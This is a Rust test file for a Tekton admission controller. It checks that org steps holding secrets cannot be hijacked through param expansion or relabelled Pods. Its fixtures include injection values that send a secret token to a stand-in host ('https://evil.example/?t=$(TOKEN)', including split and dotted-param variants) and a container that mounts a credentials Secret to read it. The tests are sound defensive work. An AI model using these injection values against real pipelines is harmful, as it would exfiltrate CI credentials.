//! What changes between the TaskRun's admission and its Pod (found by the fourth breaker
//! round): labels and ownerReferences change after admission, a remote Task's defaults are
//! first seen at the dry-run, and Tekton pastes param values side by side.

use super::*;
use crate::engine::pod::check_pod;

/// An org post-step holding a Secret in `TOKEN` that passes `sbom_url` (params in it) as data.
fn upload(sbom_url: &str) -> PolicySet {
    policies(&format!(
        r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {{name: org-upload}}
spec:
  postSteps:
  - name: bookend-upload
    image: curl
    command: [/upload]
    env:
    - {{name: TOKEN, valueFrom: {{secretKeyRef: {{name: t, key: t}}}}}}
    - {{name: SBOM_URL, value: "{sbom_url}"}}
"#
    ))
}

/// A remote Task's param default reaches the org step as a TaskRun's value does: a `$(` in it
/// is refused at the dry-run mutation, as it is in an inline taskSpec.
#[test]
fn a_remote_tasks_default_carries_no_expansion() {
    let set = upload("$(params.sbom-url)");
    let task = json!({"apiVersion": "tekton.dev/v1", "kind": "Task",
        "metadata": {"name": "3f1c", "namespace": "team-a"},
        "spec": {"params": [{"name": "sbom-url", "default": "https://evil.example/?t=$(TOKEN)"}],
                 "steps": [{"name": "build", "image": "go"}]}});
    let dry_run = Request {
        dry_run: true,
        ..request(&task)
    };
    let d = decide_resolved_task(dry_run, &set, &Catalog::default());
    assert_eq!(d.outcome, Outcome::Denied, "{:?}", d.message);
    let message = d.message.unwrap_or_default();
    assert!(message.contains("spec.params[0].default"), "{message}");

    // The same Task without the expansion is injected.
    let mut clean = task.clone();
    clean["spec"]["params"][0]["default"] = json!("https://sbom.example.com/up");
    let d = decide_resolved_task(
        Request {
            dry_run: true,
            ..request(&clean)
        },
        &set,
        &Catalog::default(),
    );
    assert_eq!(d.outcome, Outcome::Mutated, "{:?}", d.message);

    let inline = json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
        "metadata": {"name": "r", "namespace": "team-a"},
        "spec": {"taskSpec": task["spec"].clone()}});
    assert_eq!(run(&set, &inline).outcome, Outcome::Denied);
}

/// Two values without `$(` that Tekton pastes into one: `…$` then `(TOKEN)`.
#[test]
fn pasted_values_make_no_expansion() {
    let set = upload("https://$(params.sbom-host)$(params.sbom-path)");
    let taskrun = |host: &str, path: &str| {
        json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
            "metadata": {"name": "r", "namespace": "team-a"},
            "spec": {"params": [{"name": "sbom-host", "value": host}, {"name": "sbom-path", "value": path}],
                     "taskSpec": {"params": [{"name": "sbom-host"}, {"name": "sbom-path"}],
                                  "steps": [{"name": "build", "image": "alpine", "script": "true"}]}}})
    };
    assert_eq!(
        run(&set, &taskrun("sbom.example.com", "/v1")).outcome,
        Outcome::Mutated
    );
    let message = denied(
        &set,
        &taskrun("evil.example/?t=$", "(TOKEN)"),
        "spec.params[0].value",
    );
    assert!(message.contains("at its end"), "{message}");
    denied(
        &set,
        &taskrun("evil.example", "(TOKEN)"),
        "spec.params[1].value",
    );
}

const LABELLED_SECRET: &str = r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: org-registry, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  match: {selector: {matchLabels: {ci.example.com/source: git}}}
  preSteps:
  - name: bookend-credentials
    image: busybox
    command: [/bin/cp, /bookend/registry/.dockerconfigjson, /tekton/home/]
    volumeMounts: [{name: bookend-registry, mountPath: /bookend/registry, readOnly: true}]
  postSteps:
  - name: bookend-upload
    image: curl
    script: |
      curl -T /tekton/home/x https://sbom.example/
  volumes: [{name: bookend-registry, secret: {secretName: registry-credentials}}]
"#;

/// Tekton freezes a TaskRun's spec, not its labels: a TaskRun admitted with the org's steps
/// and volume, relabelled before it starts (`spec.status: TaskRunPending`), matches no policy
/// when its Pod is built. The author's containers (a StepAction resolved after admission)
/// still may not mount the org's Secret or Tekton's scripts volume.
#[test]
fn a_relabelled_taskruns_pod_still_keeps_the_authors_containers_off_org_volumes() {
    let set = policies(LABELLED_SECRET);
    let mut tr = json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
        "metadata": {"name": "run-1", "namespace": "team-a", "uid": "u-1",
                     "labels": {"ci.example.com/source": "git"}},
        "spec": {"status": "TaskRunPending",
                 "taskSpec": {"steps": [{"name": "mine", "ref": {"name": "my-action"}}]}}});
    let d = run(&set, &tr);
    assert_eq!(d.outcome, Outcome::Mutated, "{:?}", d.message);
    tr = d.object;
    tr["metadata"]["creationTimestamp"] = json!("2026-06-01T00:00:00Z");
    let pod_with = |mounts: Value| {
        let steps = tr["spec"]["taskSpec"]["steps"].as_array().unwrap().clone();
        let mut place = String::new();
        let containers: Vec<Value> = steps
            .iter()
            .enumerate()
            .map(|(i, s)| {
                let s = if s["name"] == "mine" {
                    json!({"name": "mine", "image": "alpine", "command": ["sh", "-c", "cat /steal/x"],
                           "volumeMounts": mounts.clone()})
                } else {
                    s.clone()
                };
                crate::tekton_pod::container(&s, i, &mut place)
            })
            .collect();
        json!({"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": "run-1-pod", "namespace": "team-a",
                         "labels": {"tekton.dev/taskRun": "run-1", "tekton.dev/taskRunUID": "u-1"}},
            "spec": {"containers": containers,
                     "initContainers": [{"name": "place-scripts", "image": "shell", "command": ["sh"], "args": ["-c", place]}]}})
    };
    let stealing = pod_with(json!([{"name": "bookend-registry", "mountPath": "/steal"}]));
    let writing = pod_with(json!([{"name": "tekton-internal-scripts", "mountPath": "/s"}]));
    let own = pod_with(json!([]));
    for labels in [json!({"ci.example.com/source": "git"}), json!({})] {
        tr["metadata"]["labels"] = labels.clone();
        let message = check_pod(&stealing, &tr, &set, &Catalog::default())
            .unwrap_err()
            .message;
        assert!(
            message.contains("mounts \"bookend-registry\""),
            "{labels}: {message}"
        );
        assert!(
            check_pod(&writing, &tr, &set, &Catalog::default()).is_err(),
            "{labels}"
        );
        assert_eq!(
            check_pod(&own, &tr, &set, &Catalog::default()),
            Ok(Vec::new()),
            "{labels}"
        );
        // A reserved-prefix name no policy defines is the author's container like any other.
        let mut named = stealing.clone();
        for c in named["spec"]["containers"].as_array_mut().unwrap() {
            if c["name"] == "step-mine" {
                c["name"] = json!("step-bookend-mine");
            }
        }
        let message = check_pod(&named, &tr, &set, &Catalog::default())
            .unwrap_err()
            .message;
        assert!(
            message.contains("step-bookend-mine mounts \"bookend-registry\""),
            "{labels}: {message}"
        );
    }
}

/// Round 5: Tekton keys a string param named `git.url` and the key `url` of an object param
/// `git` alike (`params.git.url`), the TaskRun's value winning: an org step that uses
/// `$(params.git.url)` uses both, and a `$(` in either is refused.
#[test]
fn a_dotted_string_param_is_the_object_key_an_org_step_uses() {
    let set = upload("$(params.sbom.url)");
    let taskrun = |params: Value| {
        json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
            "metadata": {"name": "r", "namespace": "team-a"},
            "spec": {"params": params,
                     "taskSpec": {"params": [{"name": "sbom", "type": "object",
                                              "properties": {"url": {"type": "string"}},
                                              "default": {"url": "https://sbom.example.com"}}],
                                  "steps": [{"name": "build", "image": "alpine", "script": "true"}]}}})
    };
    assert_eq!(run(&set, &taskrun(json!([]))).outcome, Outcome::Mutated);
    denied(
        &set,
        &taskrun(json!([{"name": "sbom.url", "value": "https://evil.example/$(TOKEN)"}])),
        "spec.params[0].value",
    );
    denied(
        &set,
        &taskrun(json!([{"name": "sbom", "value": {"url": "https://evil.example/$(TOKEN)"}}])),
        "spec.params[0].value",
    );
}
